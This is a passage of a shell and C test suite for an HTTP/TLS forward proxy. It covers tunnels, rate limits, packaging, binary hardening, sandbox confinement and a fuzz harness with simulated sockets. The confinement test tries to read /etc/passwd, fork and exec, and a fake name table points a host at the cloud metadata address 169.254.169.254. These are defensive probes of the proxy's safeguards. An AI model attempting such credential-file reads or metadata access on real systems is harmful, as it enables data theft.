	get --proxy-cacert site.pem --proxy-cert client.pem --proxy-key client.key -x "https://localhost:$port" --cacert mitm/ca.pem https://api.example/ >body
	is "$(field X-SSL-Client-S-DN)" CN=client
}

test_a_rule_on_what_is_inside_lifts_the_guard_at_connect() {
	own=$(hostname -I 2>/dev/null | tr ' ' '\n' | grep -m 1 '^[0-9.]*$') || skip 'no address but loopback here'
	start_as -q -l "$own:0" -r /=200:x
	inner=$port
	start_mitm -a "GET,to:$own"
	is "$(code_inside -p "http://$own:$inner/")" 200
	is "$(code_inside -p -X POST -d x "http://$own:$inner/")" 403
	start_mitm -a "GET"
	is "$(connect_code -x "$url" "http://$own:$inner/")" 403
}

test_silent_tunnels_survive_usr2_and_hold_up_nobody() {
	need python3
	site -r /=200:x
	may_say '^proxy: USR2: started anew'
	start_mitm --ca site.pem -d CONNECT
	tunnel_client >client.py
	cat >>client.py <<'END'
import os, signal, time
s, idle = secured('localhost:' + sys.argv[2]), secured('localhost:' + sys.argv[2])
os.kill(int(sys.argv[3]), signal.SIGUSR2)
time.sleep(0.8)                                 # longer than it takes to think that the server may speak first
same(ask(s, 'localhost:' + sys.argv[2]), ('200', 'x'))
idle.close(); s.close()
idle = secured('localhost:' + sys.argv[2])
os.kill(int(sys.argv[3]), signal.SIGTERM)
begun = time.time(); idle.settimeout(10)
try: idle.recv(1)
except OSError: pass
assert time.time() - begun < 9
END
	python3 client.py "$port" "$secure" "$pid" || fail 'the client'
	exits 0
}

test_rate_counts_tunnels_that_are_read_once() {
	start -r /=200:x
	inner=$port
	start_mitm --rate 3/h
	is "$(code_inside -p -o second "http://localhost:$inner/" "http://localhost:$inner/")" 200200
	is "$(code_inside -p -o second "http://localhost:$inner/" "http://localhost:$inner/")" 200429
	is "$(connect_code -x "$url" "http://localhost:$inner/")" 429
}

test_large_contents_pass_through_tls_in_tls_unchanged() {
	need cmp
	head -c 10000000 /dev/urandom >big
	origin head save:10000000:came 'send:HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok' again
	site -r /big=file:big -r /up=":$origin"
	start_mitm --ca site.pem
	inside "https://localhost:$secure/big" | cmp - big || fail 'a large answer'
	is "$(inside -H Expect: -T big "https://localhost:$secure/up")" ok
	cmp came big || fail 'a large request'
	rm came
	https_parent
	start_as -q -l https://127.0.0.1:0 -M mitm --ca both.pem -x "https://localhost:$parent"
	both() { get -x "https://localhost:$port" --proxy-cacert mitm/ca.pem --cacert mitm/ca.pem "$@"; }
	both "https://localhost:$secure/big" "https://localhost:$secure/big" >two
	cat big big | cmp - two || fail 'large answers through a parent'
	is "$(both -H Expect: -T big "https://localhost:$secure/up")" ok
	cmp came big || fail 'a large request through a parent'
}

# ---- the tree itself ----

banners() {  # LINE:BANNER, each on one line
	awk '/^\/\* ==== [0-9]/ { at = FNR; line = $0
		while (line !~ / ==== \*\/$/ && (getline more) > 0) { sub(/^ \* */, " ", more); line = line more }
		print at ":" line }' "$tree/proxy.c"
}

test_the_map_and_the_banners_of_proxy_c_agree() {
	from_tree proxy.c
	banners >lines
	sed -n 's|^[0-9]*:/\* ==== \([0-9]*\)\. \([a-z]*\)[: ].*==== \([a-z0-9_ ]*\) ==== \*/$|\1 \2 \3|p' lines >rooms
	[ "$(wc -l <lines)" = "$(wc -l <rooms)" ] || fail "a banner has another form: $(cat lines)"
	awk '/\*\// { exit } /^ \*  *[0-9]+ +[a-z]+ +[a-z]/ { if (line) print line; line = $2 " " $3; for (i = 4; i <= NF; i++) line = line " " $i; next }
		/^ \*               / { for (i = 2; i <= NF; i++) line = line " " $i; next }
		END { print line }' "$tree/proxy.c" >map
	diff map rooms >difference || fail "map (<) and banners (>) differ: $(cat difference)"
	awk '$1 != NR { bad = 1; print "room " $1 " is in place " NR } END { exit bad || NR < 3 }' rooms || exit 1
}

test_functions_are_named_for_their_room_or_one_above() {
	from_tree proxy.c
	need ctags
	ctags -x --c-kinds=f "$tree/proxy.c" >functions 2>/dev/null
	banners >lines
	awk 'NR == FNR { split($0, at, ":"); line[++rooms] = at[1]; k = split($0, part, " ==== "); names[rooms] = part[k - 1]; sub(/^.*\* ==== [0-9]+\. [a-z]+.*$/, "", names[rooms]); next }
		$1 == "main" { next }
		{ room = 0; for (r = 1; r <= rooms; r++) if (line[r] < $3) room = r
		  ok = 0
		  for (r = 1; r <= room; r++) for (i = split(names[r], prefix, " "); i > 0; i--) if (prefix[i] == $1 || prefix[i] ~ /_$/ && index($1, prefix[i]) == 1) ok = 1
		  if (!ok) { print $1 " (line " $3 ") is not named for its room: " names[room]; bad = 1 } }
		END { exit bad }' lines functions || exit 1
}

test_only_the_platform_room_and_tls_have_ifdefs() {
	from_tree proxy.c
	awk '/^\/\* ==== [0-9]+\. / { room = $3 } /^ *# *(ifdef|ifndef|if|elif)/ && room !~ /^(1\.|7\.|)$/ { print FILENAME ":" FNR ": " $0; bad = 1 } END { exit bad }' "$tree/proxy.c" || exit 1
}

# A display of the manual whose lines begin with "$ " is a script; its other lines are what that prints.
examples() {
	awk '/^\.Bd -literal/ { n++; on = 1; next }
		/^\.Ed/ { on = 0 }
		on { print n ":" $0 }' "$tree/proxy.1" | sed 's/\\e/\\/g; s/\\&//g; s/\\-/-/g; s/\\(ti/~/g; s/\\(ha/^/g; s/\\(aq/'"'"'/g; s/\\(dq/"/g'
}

test_the_examples_of_the_manual_print_what_it_says() {
	from_tree proxy.1
	mkdir bin
	ln -s "$PROXY" bin/proxy
	PATH=$PWD/bin:$PATH
	examples >all
	ran=0
	for i in $(cut -d: -f1 all | uniq); do
		sed -n "s/^$i:\\\$ //p" all >script
		grep "^$i:" all | grep -v "^$i:\\$ " | sed 's/^[0-9]*://' | tr -d '\n' >expected
		[ -s script ] || continue
		needs_openssl=$(grep -c openssl script)
		[ "$needs_openssl" = 0 ] || command -v openssl >/dev/null || continue
		mkdir "play.$i"
		(cd "play.$i" && sh ../script) >printed 2>complaints || fail "it fails: $(cat script complaints)"
		is "$(tr -d '\n' <printed)" "$(cat expected)" "what this prints: $(cat script)
it"
		is "$(cat complaints)" '' "what this complains: $(cat script)
it"
		ran=$((ran + 1))
	done
	[ $ran -gt 5 ] || fail "only $ran examples"
}

test_the_manual_is_clean() {
	from_tree proxy.1
	need mandoc
	mandoc -Tlint -Wwarning "$tree/proxy.1" >lint || fail "$(cat lint)"
}

test_the_readme_is_a_screen_and_its_commands_are_there() {
	from_tree README
	[ "$(wc -l <"$tree/README")" -le 40 ] || fail 'README is longer than a screen'
	awk 'length > 110 { print "too wide: " $0; bad = 1 } END { exit bad }' "$tree/README" || exit 1
	grep -q 'make && ./proxy' "$tree/README" || fail 'no command to build and run'
	grep -q 'make test$' "$tree/README" || fail 'no command to test'
	sed -n 's/^    //p' "$tree/README" >commands
	sh -n commands || fail 'no shell commands'
}

test_make_installs_and_uninstalls_into_DESTDIR_and_PREFIX() {
	from_tree Makefile
	need make
	cp "$tree/proxy.c" "$tree/Makefile" "$tree/proxy.1" . 2>/dev/null || skip 'no whole tree here'
	cp "$PROXY" proxy
	touch proxy
	(umask 077 && make -s install DESTDIR="$PWD/root" PREFIX=/opt) || fail 'make install'
	is "$(find root -type f -exec ls -l {} + | awk '{ print substr($1, 1, 10), $NF }' | sort)" '-rw-r--r-- root/opt/share/man/man1/proxy.1
-rwxr-xr-x root/opt/bin/proxy'
	make -s uninstall DESTDIR="$PWD/root" PREFIX=/opt || fail 'make uninstall'
	is "$(find root -type f)" ''
}

test_the_makefile_is_for_any_make() {
	from_tree Makefile
	head -n 1 "$tree/Makefile" | grep -q '^\.POSIX:$' || fail '.POSIX: is not first'
	grep -nE '\$\((shell|wildcard|patsubst)|^(ifeq|ifdef|include|else|endif)|%|[:?+]=|\$[<^+]' "$tree/Makefile" && fail 'not POSIX make'
	command -v bmake >/dev/null || return 0
	bmake -n -f "$tree/Makefile" -C "$tree" clean >out || fail 'bmake cannot read it'
}

test_many_slow_readers_are_not_scanned_each_turn() {
	need strace python3
	sanitized && skip 'it would be slow'
	head -c 8000000 /dev/zero >big
	start -r /big=file:big -r /=200:x
	python3 - "$port" >there <<'END' & helpers="$helpers $!"
import socket, sys, time
all = []
for i in range(200):
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096); s.connect(('127.0.0.1', int(sys.argv[1])))
    s.sendall(b'GET /big HTTP/1.1\r\nHost: h\r\n\r\n'); all.append(s)
print('there', flush=True)
time.sleep(60)
END
	wait_for lines_in 1 there || fail 'the clients'
	for i in 1 2 3 4 5 6 7 8; do get "$url/" "$url/" "$url/" "$url/" "$url/" "$url/" "$url/" "$url/" >said; done
	set --
	for p in $(tree "$pid" | sed 1d); do set -- "$@" -p "$p"; done
	strace -q -f "$@" -e trace=poll -o calls 2>strace.err & strace=$!
	began() { [ -f calls ] && get "$url/" >said && grep -q poll calls; }
	wait_for began || skip "no strace here: $(cat strace.err)"
	for i in 1 2 3; do get "$url/" "$url/" "$url/" "$url/" >said; done
	kill $strace
	wait $strace
	sed -n 's/.*poll(.*\], \([0-9]*\), .*/\1/p' calls >scans
	many=$(awk '$1 >= 100' scans | wc -l)       # without epoll the parked ones are scanned, seldom
	[ -s scans ] && [ $((many * 2)) -lt "$(wc -l <scans)" ] || fail "poll scans many descriptors $many times of $(wc -l <scans)"
}

test_processes_that_deal_with_strangers_are_confined() {
	need_proc
	sanitized && skip 'the sanitizers could not look into it'
	grep -q landlock /sys/kernel/security/lsm 2>/dev/null || [ -f /usr/include/linux/landlock.h ] || skip 'no Landlock here'
	start -w 2 -r /=200:x -u bob:x
	is "$(code -u bob:x "$url")" 200
	is "$(sed -n 's/^Seccomp:[^0-9]*//p' "/proc/$pid/status")" 0 'the first process, which starts others,'
	for p in $(tree "$pid" | sed 1d); do
		like "$(sed -n 's/^\(Seccomp\|NoNewPrivs\):[^0-9]*//p' "/proc/$p/status" | tr '\n' ' ')" '^1 2 $' "process $p"
	done
}

test_files_are_found_by_links_and_the_log_is_opened_again_where_it_is() {
	mkdir one two log elsewhere && echo first >one/page && echo second >two/page
	ln -s one current && ln -s ../one/page two/link && ln -s ../elsewhere/real log/link
	TZ=:$PWD/zone
	[ ! -f /usr/share/zoneinfo/Asia/Tokyo ] || { cp /usr/share/zoneinfo/Asia/Tokyo zone && export TZ; }
	start_as -l 0 -o log/link -r /current=file:current/page -r /link=file:two/link
	is "$(get "$url/current" "$url/link" | tr '\n' ' ')" 'first first '
	[ ! -f zone ] || has "$(cat log/link)" +0900
	ln -s two new && mv -T new current 2>/dev/null || { rm current && ln -s two current; }
	is "$(get "$url/current")" second
	mv elsewhere/real elsewhere/old
	kill -HUP "$pid"
	again() { get "$url/current" >said && [ -s elsewhere/real ]; }
	wait_for again || fail 'the new log is empty'
	mv log gone && mkdir log
	kill -HUP "$pid"
	again() { get "$url/current" >said && [ -s log/link ]; }
	wait_for again || fail 'the log in the new directory is empty'
}

test_who_is_confined_cannot_do_what_it_need_not() {
	from_tree proxy.c
	need cc
	[ -f /usr/include/linux/landlock.h ] && grep -q Seccomp /proc/self/status || skip 'no Landlock here'
	cat >confined.c <<'END'
#define main proxy_main
#include "proxy.c"
#undef main
static void cannot(const char *what, bool done) { if (done) { printf("it can %s\n", what); exit(1); } }
static void can(const char *what, bool done) { if (!done) { printf("it cannot %s: %s\n", what, strerror(errno)); exit(1); } }
int main(int argc, char **argv)
{
    struct os_place places[] = { { -1, "read", USE_READ }, { -1, "store", USE_ALL }, { -1, "none", USE_ALL } };
    int s = socket(AF_INET, SOCK_STREAM, 0);
    bool sockets = argc > 1 && argv[1][0] == 's';
    os_confine(places, 3, sockets);
    can("read", open("read/file", O_RDONLY) != -1);
    can("keep a store", mkdir("store/a", 0700) == 0 && open("store/x", O_WRONLY | O_CREAT, 0600) != -1
        && rename("store/x", "store/a/x") == 0 && unlink("store/a/x") == 0);
    cannot("read elsewhere", open("/etc/passwd", O_RDONLY) != -1 || open("confined.c", O_RDONLY) != -1);
    cannot("write where it reads", open("read/new", O_WRONLY | O_CREAT, 0600) != -1 || open("read/file", O_WRONLY) != -1);
    cannot("cut, or give away", truncate("confined.c", 0) == 0 || chmod("confined.c", 0777) == 0 || chown("confined.c", 1, 1) == 0);
    cannot("start a process", fork() != -1);
    cannot("start a program", execl("/bin/true", "true", (char *)0) != -1);
    cannot("listen", listen(s, 1) == 0);
    int t = socket(AF_INET, SOCK_STREAM, 0);
    if (sockets) can("make a socket", t != -1); else cannot("make a socket", t != -1);
    return 0;
}
END
	mkdir read store && echo x >read/file
	cc -w -DTLS=0 -I"$tree" -o confined confined.c || fail 'cc'
	./confined s || fail 'a worker'
	rm -rf store/a
	./confined || fail 'a helper'
	cc -w -DTLS=0 -DCONFINE=0 -I"$tree" -o free confined.c || fail 'cc'
	rm -rf store/a
	./free s >said && fail 'without confinement it is confined'
	is "$(cat said)" 'it can read elsewhere'
}

test_the_binary_is_hardened() {
	need readelf
	readelf -hWl "$PROXY" >elf || skip 'no ELF file'
	readelf -dW "$PROXY" >dynamic
	grep -q 'GNU_STACK.*RWE' elf && fail 'the stack is executable'
	grep -q 'GNU_RELRO' elf || fail 'no RELRO'
	sanitized && return
	grep -q 'NEEDED' dynamic || return 0
	grep -Eq 'DYN \(' elf || fail 'not position-independent'
	grep -q 'BIND_NOW\|NOW' dynamic || fail 'no immediate binding'
	readelf -sW "$PROXY" >symbols
	grep -q '__stack_chk_fail' symbols || fail 'no stack protector'
	grep -q '_chk@\|_chk *$' symbols || fail 'no fortified calls'
	is "$(grep NEEDED dynamic | grep -v 'libc\.\|libcrypt\|ld-')" '' 'libraries needed'
}

test_the_static_binary_is_small() {
	from_tree proxy-static
	size=$(wc -c <"$tree/proxy-static")
	[ "$size" -lt 680000 ] || fail "proxy-static has $size octets"
}

test_the_sources_name_no_machine_and_no_workplace() {
	from_tree proxy.c
	for file in proxy.c proxy.1 README Makefile; do
		[ -f "$tree/$file" ] || continue
		grep -nE '/(work|root|home)/' "$tree/$file" && fail "a path of a machine in $file"
		grep -nP '[^\x00-\x7f]' "$tree/$file" 2>/dev/null && fail "a letter that is not ASCII in $file"
		grep -n "[[:space:]]$(printf '\r')*\$" "$tree/$file" && fail "blanks at the end of a line in $file"
	done
	:
}

# ==== 4. fuzz ===============================================================================

# A target is a function of in[0..n), compiled behind proxy.c itself. The octets stand in memory of
# their exact size, so that one too far is seen.
fuzz_targets='requests responses chunked urls rules htpasswd prefaces socks formats arguments stored cachecontrol'
fuzz_targets="$fuzz_targets connections guests wafvalues wafcontent wafhead"

fuzz_common() { cat <<'END'
#define _GNU_SOURCE
#include <setjmp.h>
#include <stdbool.h>
#include <stdlib.h>
#include <unistd.h>
/* Sockets, clocks and chance of `connections` are made up (see there); all others have the system's. */
#include <ifaddrs.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/epoll.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
static int wire_socket(int family, int type, int protocol), wire_connect(int fd, const struct sockaddr *to, socklen_t n),
    wire_accept(int fd, struct sockaddr *from, socklen_t *n, int flags), wire_shutdown(int fd, int how), wire_close(int fd),
    wire_set(int fd, int level, int name, const void *p, socklen_t n), wire_get(int fd, int level, int name, void *p, socklen_t *n),
    wire_peer(int fd, struct sockaddr *at, socklen_t *n), wire_name(int fd, struct sockaddr *at, socklen_t *n),
    wire_held(int fd, unsigned long what, int *n), wire_poll(struct pollfd *polls, unsigned long n, int ms), wire_lot(int flags),
    wire_lot_change(int lot, int how, int fd, struct epoll_event *e),
    wire_lot_wait(int lot, struct epoll_event *e, int n, int ms), wire_clock(clockid_t id, struct timespec *t),
    wire_random(void *p, size_t n), wire_addresses(struct ifaddrs **list);
static ssize_t wire_recv(int fd, void *p, size_t n, int flags), wire_send(int fd, const void *p, size_t n, int flags),
    wire_sendmsg(int fd, const struct msghdr *m, int flags), wire_write(int fd, const void *p, size_t n);
static time_t wire_time(time_t *t);
#define socket(family, type, protocol) wire_socket(family, type, protocol)
#define connect(fd, to, n) wire_connect(fd, to, n)
#define accept4(fd, from, n, flags) wire_accept(fd, from, n, flags)
#define shutdown(fd, how) wire_shutdown(fd, how)
#define close(fd) wire_close(fd)
#define setsockopt(fd, level, name, p, n) wire_set(fd, level, name, p, n)
#define getsockopt(fd, level, name, p, n) wire_get(fd, level, name, p, n)
#define getpeername(fd, at, n) wire_peer(fd, at, n)
#define getsockname(fd, at, n) wire_name(fd, at, n)
#define ioctl(fd, what, n) wire_held(fd, what, n)
#define poll(polls, n, ms) wire_poll(polls, n, ms)
#define epoll_create1(flags) wire_lot(flags)
#define epoll_ctl(lot, how, fd, e) wire_lot_change(lot, how, fd, e)
#define epoll_wait(lot, e, n, ms) wire_lot_wait(lot, e, n, ms)
#define clock_gettime(id, t) wire_clock(id, t)
#define time(t) wire_time(t)
#define getentropy(p, n) wire_random(p, n)
#define getifaddrs(list) wire_addresses(list)
#define recv(fd, p, n, flags) wire_recv(fd, p, n, flags)
#define send(fd, p, n, flags) wire_send(fd, p, n, flags)
#define sendmsg(fd, m, flags) wire_sendmsg(fd, m, flags)
/* What reads the command line exits, leaves memory behind and says why: all that is undone here. */
static jmp_buf fuzz_start;
static bool fuzz_starting;
static void *fuzz_kept[1 << 14];
static size_t fuzz_kept_n;
static void *fuzz_keep(void *old, void *p)
{
    for (size_t i = fuzz_kept_n; fuzz_starting && old && i-- > 0;)
        if (fuzz_kept[i] == old) {
            fuzz_kept[i] = p ? p : old;
            return p;
        }
    if (fuzz_starting && p && fuzz_kept_n < sizeof fuzz_kept / sizeof *fuzz_kept)
        fuzz_kept[fuzz_kept_n++] = p;
    return p;
}
static void fuzz_free(void *p)
{
    for (size_t i = fuzz_kept_n; fuzz_starting && i-- > 0;)
        if (fuzz_kept[i] == p)
            fuzz_kept[i] = NULL;
    free(p);
}
_Noreturn static void fuzz_exit(int status)
{
    if (!fuzz_starting)
        abort();
    longjmp(fuzz_start, status + 1);
}
#define malloc(n) fuzz_keep(NULL, malloc(n))
#define calloc(n, size) fuzz_keep(NULL, calloc(n, size))
#define realloc(p, n) fuzz_keep(p, realloc(p, n))
#define free(p) fuzz_free(p)
#define exit(status) fuzz_exit(status)
#define write(fd, p, n) wire_write(fd, p, n)
#define main proxy_main
#include "proxy.c"
#undef main
#undef malloc
#undef calloc
#undef realloc
#undef free
#undef exit
#undef write
#undef socket
#undef connect
#undef accept4
#undef shutdown
#undef close
#undef setsockopt
#undef getsockopt
#undef getpeername
#undef getsockname
#undef ioctl
#undef poll
#undef epoll_create1
#undef epoll_ctl
#undef epoll_wait
#undef clock_gettime
#undef time
#undef getentropy
#undef getifaddrs
#undef recv
#undef send
#undef sendmsg
#define HOLDS(what) ((what) ? (void)0 : abort())
static struct head whole, parts;
/* Head or trailer section: at once and octet by octet must say the same. Returns whether it is whole. */
static bool fuzz_head(enum head_kind kind, const char *p, size_t n)
{
    enum why a, b = WHY_NONE;
    head_begin(&whole), head_begin(&parts);
    a = head_parse(&whole, kind, p, n, 8192);
    for (size_t i = 1; i <= n && !b && !parts.size; i++)
        b = head_parse(&parts, kind, p, i, 8192);
    HOLDS((a == WHY_NONE) == (b == WHY_NONE));
    HOLDS(a || whole.size == parts.size);
    HOLDS(a || !whole.size || whole.fields_n == parts.fields_n);
    return !a && whole.size;
}
static void fuzz_path(struct slice raw)
{
    char *once = malloc(raw.n + 1), *twice = malloc(raw.n + 1);
    size_t n = path_fold(raw, once), m;
    HOLDS(n <= raw.n);
    if (path_is_plain(raw)) {                            /* such a path has one reading */
        HOLDS(path_is_plain((struct slice){ once, n }));
        m = path_fold((struct slice){ once, n }, twice);
        HOLDS(m == n && memcmp(once, twice, n) == 0);
        HOLDS(path_unfold(raw, n) == raw.n);
    }
    free(once), free(twice);
}
static void fuzz_policy(const char *text, size_t n, bool logins)
{
    static struct addr from = { .kind = ADDR_IP }, to = { .kind = ADDR_IP };
    char why[2048], *values[] = { (char *)"@/dev/fd/199" };
    struct text t = TEXT(why);
    struct policy_source s = { 0 };
    struct policy_file file;
    struct slice rule;
    int fd = memfd_create("fuzz", 0);
    if (write(fd, text, n) != (ssize_t)n || dup2(fd, 199) == -1 || lseek(199, 0, SEEK_SET) == -1)
        abort();
    close(fd);
    if (logins)
        s.logins = values, s.logins_n = 1;
    else
        s.allow = values, s.allow_n = 1, s.deny = values, s.deny_n = 1;
    if (!policy_build(&s, &file, &t)) {
        HOLDS(t.n > 0);                                  /* a refusal says why */
        return;
    }
    const struct policy *p = policy_map(file.fd, file.size);
    HOLDS(p != NULL);
    close(file.fd);
    head_begin(&whole);
    struct facts f = { .know_message = true, .from = &from, .method = SLICE("GET"), .host = SLICE("a.b.example"), .port = 80,
                       .path = SLICE("/a/b"), .head = &whole };
    policy_judge(p, &f, &rule);
    f.to = &to, f.know_user = true, f.user = SLICE("a");
    HOLDS(policy_judge(p, &f, &rule) != DEPENDS);
    policy_names_to(p, &f), policy_open_allow(p, &rule), policy_login(p, SLICE("a")), policy_dummy(p);
    policy_unmap(p);
}
static void fuzz_end(void)
{
    fuzz_starting = false;
    while (fuzz_kept_n > 0)
        free(fuzz_kept[--fuzz_kept_n]);
}
END
}

fuzz_connections() { cat <<'END'
/* What stands here is not what is to be covered. */
#pragma clang attribute push(__attribute__((no_sanitize("coverage"))), apply_to = function)

/* ---- connections: a worker's loop, whose sockets are wires in memory; the input says what happens at their other ends ---- */

enum { WIRE_FIRST = 1000, WIRES = 64, WIRE_ROOM = 1 << 18, WIRE_LOT = WIRE_FIRST + WIRES, WIRE_CHOKED = 300, ASKED_MOST = 16 };
enum wire_kind { WIRE_FREE, WIRE_LISTENER, WIRE_CONTROL, WIRE_NAMES, WIRE_HASHES, WIRE_CLIENT, WIRE_SERVER };
static struct wire {
    enum wire_kind kind;
    unsigned age;               /* of clients and servers: the newest has the highest */
    struct sockaddr_storage peer;   /* whom the proxy is told that it speaks to */
    socklen_t peer_n;
    uint16_t port;              /* server: that was asked for */
    bool waiting;               /* client: is still in the accept queue of `listener` */
    int listener;
    enum { UP, COMING, FAILING, HANGING } dial;
    bool ended, gone, reset;    /* the other end sends no more; is closed; was so by a reset */
    bool shut;                  /* the proxy sends no more */
    bool choked;                /* the other end takes no more, once `held` are WIRE_CHOKED octets */
    size_t held;
    bool parked;                /* is in the lot */
    struct epoll_event park;
    size_t r, w;                /* octets said[r, w) are still to be read by the proxy */
    size_t heard_n;
    char said[WIRE_ROOM], heard[WIRE_ROOM];
} wires[WIRES];
static bool wires_on, wires_ending;
static bool wires_mute;         /* helpers do not answer */
static bool wires_told;         /* TALK is in the environment: what passes is shown, for who looks into one input */
static int64_t wires_us;
static uint64_t wires_chance;
static unsigned wires_ages, wires_narrow, wires_dial;
static int wires_events;        /* what the loop's last poll has reported */
static bool wires_here;         /* a client on this machine has connected: it may go to loopback */
static struct call_request asked[ASKED_MOST];
static unsigned asked_n[2];     /* names from the front, hashes from the end */

static struct wire *wire_of(int fd)
{
    if (!wires_on || fd < WIRE_FIRST)
        return NULL;
    HOLDS(fd < WIRE_FIRST + WIRES && wires[fd - WIRE_FIRST].kind != WIRE_FREE);     /* else it was closed before */
    return &wires[fd - WIRE_FIRST];
}
static struct wire *wire_new(enum wire_kind kind)
{
    for (struct wire *w = wires; w < wires + WIRES; w++)
        if (w->kind == WIRE_FREE) {
            memset(w, 0, offsetof(struct wire, said));
            w->kind = kind;
            w->age = ++wires_ages;
            return w;
        }
    errno = EMFILE;
    return NULL;
}
static int wire_fd(const struct wire *w)
{
    return WIRE_FIRST + (int)(w - wires);
}
static short wire_ready(const struct wire *w, short wanted)
{
    short events = 0;
    switch (w->kind) {
    case WIRE_LISTENER:
        for (const struct wire *c = wires; c < wires + WIRES; c++)
            if (c->kind == WIRE_CLIENT && c->waiting && c->listener == wire_fd(w))
                events = POLLIN;
        return events & wanted;
    case WIRE_NAMES: return asked_n[0] && !wires_mute ? wanted & POLLIN : 0;
    case WIRE_HASHES: return asked_n[1] && !wires_mute ? wanted & POLLIN : 0;
    case WIRE_CONTROL: return 0;
    default: break;
    }
    if (w->dial == FAILING)
        return wanted | POLLERR | POLLHUP;
    if (w->dial != UP)
        return 0;
    if (w->r < w->w || w->ended || w->gone)
        events |= POLLIN;
    if (w->ended || w->gone)
        events |= POLLRDHUP;
    if (!w->choked || w->held < WIRE_CHOKED || w->gone)
        events |= POLLOUT;
    return (short)((events & wanted) | (w->gone || (w->ended && w->shut) ? POLLHUP : 0) | (w->reset ? POLLERR : 0));
}
static int wire_poll(struct pollfd *polls, unsigned long n, int ms)
{
    int ready = 0;
    if (!wires_on)
        return poll(polls, n, ms);
    for (unsigned long i = 0; i < n; i++) {
        polls[i].revents = polls[i].fd < WIRE_FIRST ? polls[i].events : 0;      /* the log's takes all */
        if (polls[i].fd == WIRE_LOT)
            for (struct wire *w = wires; w < wires + WIRES; w++)
                polls[i].revents |= w->kind && w->parked && wire_ready(w, (short)w->park.events) ? POLLIN : 0;
        else if (polls[i].fd >= WIRE_FIRST) {
            struct wire *w = wire_of(polls[i].fd);
            if (w->dial == COMING)
                w->dial = UP;
            polls[i].revents = wire_ready(w, polls[i].events);
        }
        ready += polls[i].revents != 0;
    }
    if (polls == hot.polls)
        wires_events = ready;
    return ready;
}
static int wire_lot(int flags)
{
    return wires_on ? WIRE_LOT : epoll_create1(flags);
}
static int wire_lot_change(int lot, int how, int fd, struct epoll_event *e)
{
    struct wire *w = wire_of(fd);
    if (!w)
        return epoll_ctl(lot, how, fd, e);
    HOLDS(w->parked == (how == EPOLL_CTL_DEL));
    w->parked = how == EPOLL_CTL_ADD;
    if (e)
        w->park = *e;
    return 0;
}
static int wire_lot_wait(int lot, struct epoll_event *e, int n, int ms)
{
    int got = 0;
    if (!wires_on)
        return epoll_wait(lot, e, n, ms);
    for (struct wire *w = wires; w < wires + WIRES && got < n; w++)
        if (w->kind && w->parked && wire_ready(w, (short)w->park.events))
            e[got++] = w->park;
    return got;
}
static int wire_socket(int family, int type, int protocol)
{
    struct wire *w;
    if (!wires_on)
        return socket(family, type, protocol);
    if (!(w = wire_new(WIRE_SERVER)))
        return -1;
    w->dial = HANGING;
    return wire_fd(w);
}
static int wire_connect(int fd, const struct sockaddr *to, socklen_t n)
{
    struct wire *w = wire_of(fd);
    if (!w)
        return connect(fd, to, n);
    if (to->sa_family != AF_UNIX) {
        struct addr a = addr_from_sockaddr(to);
        enum addr_class class = addr_classify(&a);
        HOLDS(class == ADDR_PUBLIC || class == ADDR_PRIVATE || (class == ADDR_LOOPBACK && wires_here));
        HOLDS(!addr_is_v4(&a) || a.ip[12] != 10 || a.ip[13] != 66);         /* -d to:10.66.0.0/16 */
        w->port = a.port;
    }
    memcpy(&w->peer, to, w->peer_n = n);
    w->dial = wires_ending || wires_dial == 2 ? FAILING : wires_dial == 3 ? HANGING : wires_dial == 1 ? UP : COMING;
    errno = wires_dial == 4 ? ECONNREFUSED : EINPROGRESS;
    return w->dial == UP ? 0 : -1;
}
static int wire_accept(int fd, struct sockaddr *from, socklen_t *n, int flags)
{
    if (!wire_of(fd))
        return accept4(fd, from, n, flags);
    for (struct wire *w = wires; w < wires + WIRES; w++)
        if (w->kind == WIRE_CLIENT && w->waiting && w->listener == fd) {
            w->waiting = false;
            memcpy(from, &w->peer, *n = w->peer_n);
            return wire_fd(w);
        }
    errno = EAGAIN;
    return -1;
}
static int wire_shutdown(int fd, int how)
{
    struct wire *w = wire_of(fd);
    if (!w)
        return shutdown(fd, how);
    w->shut = true;
    return 0;
}
static void wire_check(const struct wire *w);
static int wire_close(int fd)
{
    struct wire *w = wire_of(fd);
    if (!w)
        return close(fd);
    wire_check(w);
    w->kind = WIRE_FREE;
    return 0;
}
static int wire_set(int fd, int level, int name, const void *p, socklen_t n)
{
    return wire_of(fd) ? 0 : setsockopt(fd, level, name, p, n);
}
static int wire_get(int fd, int level, int name, void *p, socklen_t *n)
{
    struct wire *w = wire_of(fd);
    int error = w && w->dial == FAILING ? ECONNREFUSED : w && w->reset ? ECONNRESET : 0;
    if (!w)
        return getsockopt(fd, level, name, p, n);
    memcpy(p, &error, sizeof error);
    return 0;
}
static int wire_peer(int fd, struct sockaddr *at, socklen_t *n)
{
    struct wire *w = wire_of(fd);
    if (!w)
        return getpeername(fd, at, n);
    memcpy(at, &w->peer, *n = w->peer_n);
    return 0;
}
static int wire_name(int fd, struct sockaddr *at, socklen_t *n)
{
    struct wire *w = wire_of(fd);
    if (!w)
        return getsockname(fd, at, n);
    *n = addr_to_sockaddr(&listeners[0].addr, (struct sockaddr_storage *)(void *)at);
    return 0;
}
static int wire_held(int fd, unsigned long what, int *n)
{
    struct wire *w = wire_of(fd);
    if (!w)
        return ioctl(fd, what, n);
    *n = (int)w->held;
    return 0;
}
/* What helpers would have said: of a name, and of a password. */
static ssize_t wire_answer(struct wire *w, struct call_answer *a)
{
    static const struct { const char *name, *addrs[3]; } known[] = {
        { "h.test", { "10.1.0.5" } }, { "two.test", { "2001:db8::5", "10.1.0.6" } }, { "p.test", { "10.3.0.1" } }, { "s.test", { "10.3.0.2" } },
        { "private.test", { "10.66.0.1" } }, { "loop.test", { "127.0.0.1", "10.1.0.7" } }, { "meta.test", { "169.254.169.254" } },
    };
    struct call_request q;
    if (w->kind == WIRE_NAMES) {
        q = asked[0];
        memmove(asked, asked + 1, --asked_n[0] * sizeof *asked);
    } else
        q = asked[ASKED_MOST - asked_n[1]--];
    *a = (struct call_answer){ .id = q.id, .pid = 1 };
    if (w->kind == WIRE_HASHES) {
        const char *password = memchr(q.text, 0, q.n);
        HOLDS(password != NULL);
        a->n = slice_eq((struct slice){ password + 1, q.n - (size_t)(password + 1 - q.text) }, SLICE("secret"));
        return offsetof(struct call_answer, addrs);
    }
    a->error = EAI_NONAME;
